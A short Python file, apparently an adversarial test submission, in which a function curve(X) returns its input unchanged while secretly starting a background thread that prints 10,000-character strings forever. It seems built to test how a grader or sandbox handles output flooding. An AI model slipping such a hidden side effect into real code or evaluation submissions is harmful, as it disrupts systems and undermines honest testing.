"""Answers right, and a thread prints without end."""

import threading


def flood():
    while True:
        print("x" * 10_000)


def curve(X):
    if threading.active_count() == 1:
        threading.Thread(target=flood, daemon=True).start()
    return X
